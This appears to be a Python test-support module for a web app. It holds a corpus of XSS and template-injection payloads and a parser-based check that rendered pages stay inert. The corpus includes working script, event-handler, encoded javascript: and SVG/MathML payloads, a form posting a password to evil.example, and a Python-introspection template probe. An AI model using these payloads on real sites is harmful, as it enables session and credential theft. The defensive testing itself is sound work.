"""Hostile text a member might type, and the one check that a page showing it is inert.

`CORPUS` goes through every place user text is shown (tests/security/test_xss_corpus.py,
tests/test_xss.py); `assert_inert` parses the resulting HTML as a browser's tokenizer would and
fails on anything that could run: a script element, an `on*` attribute, a javascript:, data: or
vbscript: URL in any attribute that takes one (after entity decoding and the whitespace and
control characters browsers ignore), CSS that loads or runs something, or an element that
only user text could have brought (svg, math, iframe, object, embed, form, base, meta...).
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

from markupsafe import escape

# What `{{ 111111*111111 }}` and its cousins would print if any template language evaluated
# them: a number no id or count on a page reaches (12321, from 111*111, once showed up on
# the dashboard of a PostgreSQL run, whose ids run on across tests).
EVALUATED = "12345654321"

CORPUS: list[str] = [
    # Script elements, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style></script><script>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    # Event handlers, and breaking out of an attribute to add one.
    "<img src=x onerror=alert(1)>",
    "<img/src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    '<a href="#" onclick="alert(1)">click me</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=alert(1) x=`",
    "<img src=`x`onerror=alert(1)>",
    # Dangerous schemes in markdown links and images.
    "[click me](javascript:alert(1))",
    "[click me](JaVaScRiPt:alert(1))",
    "[click me]( javascript:alert(1))",
    '[click me](javascript:alert(1) "a title")',
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click me](vbscript:msgbox(1))",
    "![picture](javascript:alert(1))",
    "![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![picture](x" onerror="alert(1))',
    '[click me](https://ok.example/" onclick="alert(1))',
    "<javascript:alert(1)>",
    "[reference][hostile]\n\n[hostile]: javascript:alert(1)",
    # Entity-encoded schemes, and whitespace or control characters inside them.
    "[click me](javascript&colon;alert(1))",
    "[click me](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click me](&#x6A;avascript:alert(1))",
    '<a href="javascript:alert(1)">click me</a>',
    '<a href="jav&#x09;ascript:alert(1)">click me</a>',
    '<a href="&#14;javascript:alert(1)">click me</a>',
    '<a href=" &#x20;javascript:alert(1)">click me</a>',
    '<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">click me</a>',
    '<a href="\x01javascript:alert(1)">click me</a>',
    '<a href="java\nscript:alert(1)">click me</a>',
    '<a href="vbscript:msgbox(1)">click me</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click me</a>',
    # Every attribute that takes a URL, and CSS.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<form action="https://evil.example/steal" method="post"><input name="password"></form>',
    "<button formaction=javascript:alert(1)>go</button>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<img srcset="javascript:alert(1) 1x, x 2x">',
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<div style="width: expression(alert(1))">styled</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    # SVG and MathML.
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click me</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">click me</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    # Broken nesting, comments and parser confusion.
    '<p><a href="javascript:alert(1)"><p>click me</a>',
    '<a href="javascript:alert(1)"',
    '<img """><script>alert(1)</script>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<table><td><a href=javascript:alert(1)>click me</td></table>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<b><i>unclosed <u>nesting</b> <a href=javascript:alert(1)>x",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    # Template syntax: shown as typed, never evaluated.
    "{{ 111111*111111 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(3) %}{{ 111111*111111 }}{% endfor %}",
    "${111111*111111}",
    "#{111111*111111}",
    "<%= 111111*111111 %>",
    # Short ones, for fields of 20 characters (usernames).
    "<b onclick=x>u</b>",
    '"><svg onload=x>',
    "<script>x</script>",
    "<a href=javascript:x>",
]

# For one-line fields (titles, names, poll options): the corpus without its line breaks.
ONE_LINE = [text for text in CORPUS if "\n" not in text]


def fitting(limit: int, prefix: str = "") -> list[str]:
    """The one-line corpus with `prefix`, each cut to `limit` characters (a field's maximum)."""
    return [(prefix + text)[:limit] for text in ONE_LINE]


# Attributes whose value a browser loads or follows as a URL.
URL_ATTRIBUTES = frozenset(
    {
        "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
        "cite", "lowsrc", "dynsrc", "ping", "codebase", "longdesc", "manifest", "icon",
        "usemap", "archive", "classid", "profile", "to", "from", "values",
    }
)  # fmt: skip
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
# Elements no template writes: only user text could bring them.
FOREIGN_ELEMENTS = frozenset(
    {
        "math", "iframe", "object", "embed", "base", "frame", "frameset", "applet", "portal",
        "foreignobject", "animate", "animatemotion", "animatetransform", "set", "use", "image",
        "feimage", "handler", "listener", "template", "xmp", "noembed", "isindex", "style",
        "source", "video", "audio",
    }
)  # fmt: skip
# Allowed only in the document's <head>, where the layout writes them.
HEAD_ELEMENTS = frozenset({"meta", "link"})
# Browsers drop these from a URL before reading its scheme (the WHATWG URL standard strips
# leading and trailing C0 controls and spaces, and removes tabs and newlines anywhere); every
# control character is dropped here, to be on the safe side.
_IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f]+")
_CSS_URL = re.compile(r"url\s*\(\s*['\"]?([^'\")]*)", re.I)


def dangerous_url(value: str) -> bool:
    """Whether a browser would run or render this (already entity-decoded) URL as a document."""
    return _IGNORED_IN_URLS.sub("", value).lower().startswith(DANGEROUS_SCHEMES)


def _dangerous_css(style: str) -> bool:
    css = _IGNORED_IN_URLS.sub("", re.sub(r"/\*.*?\*/", "", style)).lower()
    if "\\" in css or "expression(" in css or "-moz-binding" in css or "behavior:" in css:
        return True
    return "@import" in css or any(dangerous_url(url) for url in _CSS_URL.findall(css))


class _Inspector(HTMLParser):
    """Walks the elements of a page, as a browser's tokenizer sees them, noting what could run.
    HTMLParser decodes entities in attribute values once, as browsers do."""

    def __init__(self, fragment: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.fragment = fragment
        self.in_body = fragment
        self.problems: list[str] = []

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        where = f"<{tag} {values}>"
        if tag == "body":
            self.in_body = True
        if tag == "script" and (self.fragment or not values.get("src", "").startswith("/static/")):
            self.problems.append(f"script element: {where}")
        if tag in FOREIGN_ELEMENTS:
            self.problems.append(f"element only user text could bring: {where}")
        if tag in HEAD_ELEMENTS and self.in_body:
            self.problems.append(f"head element outside the head: {where}")
        # The layout's charts and icons all carry a viewBox; a bare <svg> came from user text.
        if tag == "svg" and (self.fragment or "viewbox" not in values):
            self.problems.append(f"svg from user text: {where}")
        # Images are blog covers, served from this site; user text brings none.
        if tag == "img" and (self.fragment or not _same_site(values.get("src", ""))):
            self.problems.append(f"image from user text: {where}")
        # Every form a template writes names its method and posts to this site.
        if tag == "form" and (self.fragment or "method" not in values):
            self.problems.append(f"form from user text: {where}")
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"event handler {name}: {where}")
            elif name in URL_ATTRIBUTES and dangerous_url(value):
                self.problems.append(f"dangerous URL in {name}: {where}")
            elif name in ("action", "formaction") and not _same_site(value):
                self.problems.append(f"{name} leaves the site: {where}")
            elif name in ("srcset", "imagesrcset") and any(
                dangerous_url(candidate.strip().split(" ")[0])
                for candidate in value.split(",")
                if candidate.strip()
            ):
                self.problems.append(f"dangerous URL in {name}: {where}")
            elif name == "style" and _dangerous_css(value):
                self.problems.append(f"CSS that loads or runs something: {where}")
            elif name in ("srcdoc", "http-equiv"):
                self.problems.append(f"{name} attribute: {where}")


def _same_site(url: str) -> bool:
    url = _IGNORED_IN_URLS.sub("", url)
    return url == "" or url.startswith(("?", "#")) or (url[:1] == "/" and url[1:2] not in "/\\")


def problems(document: str, *, fragment: bool = False) -> list[str]:
    """Everything in the HTML that could run or load something. `fragment`: the HTML is user
    content alone (the renderer's output, a feed entry), where no script, svg or form belongs."""
    inspector = _Inspector(fragment)
    inspector.feed(document)
    inspector.close()
    found = inspector.problems
    if EVALUATED in document:
        found.append(f"template syntax was evaluated: {EVALUATED} is on the page")
    if ">49<" in document:  # tests/test_xss.py's {{ 7*7 }}
        found.append("template syntax was evaluated: 49 is on the page")
    return found


def assert_inert(document: str, *, fragment: bool = False, where: str = "") -> None:
    """Fail, listing each finding, if the HTML could run or load anything from user text."""
    found = problems(document, fragment=fragment)
    assert not found, f"{where or 'the page'} is not inert:\n" + "\n".join(found[:20])


def shown_as_text(document: str, typed: str) -> bool:
    """Whether the page shows `typed` as text: its escaped form (as templates escape it) is in
    the page."""
    return str(escape(typed)) in document
